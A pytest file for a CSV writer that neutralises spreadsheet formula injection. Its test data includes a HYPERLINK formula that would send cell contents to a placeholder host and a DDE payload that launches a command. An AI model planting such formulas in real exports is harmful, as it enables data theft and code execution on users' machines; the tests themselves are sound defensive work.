"""Tables keep their texts, and no spreadsheet computes them."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from liverseg_gui.system.csv_table import csv_table, read_cell

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://x/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "-",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_is_a_formula_is_written_as_text_and_read_back(formula: str) -> None:
    head, row = rows(csv_table([formula], [{formula: formula}]))
    assert head == row == [f"'{formula}"]
    assert read_cell(row[0]) == formula


@pytest.mark.parametrize(
    "cell", [-1.5, 0, -3, True, "-1.5", "+2", "-3e-05", "-inf", "", "Doe, John", "a=b", " x", "'s"]
)
def test_numbers_and_other_texts_stay(cell: object) -> None:
    (written,) = rows(csv_table(["x"], [{"x": cell}]))[1] or [""]
    assert written == str(cell)
    assert read_cell(written) == str(cell)


@pytest.mark.parametrize("text", ["'=1", "''=1", "'", "''", "'x"])
def test_an_apostrophe_of_the_text_itself_is_kept(text: str) -> None:
    assert read_cell(rows(csv_table(["x"], [{"x": text}]))[1][0]) == text


def test_tables_are_written_here_alone() -> None:
    written = {
        path.relative_to(ROOT).as_posix()
        for top in ("liverseg_gui", "training")
        for path in (ROOT / top).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text("utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("DictWriter", "writer")
    }
    assert written == {"liverseg_gui/system/csv_table.py"}
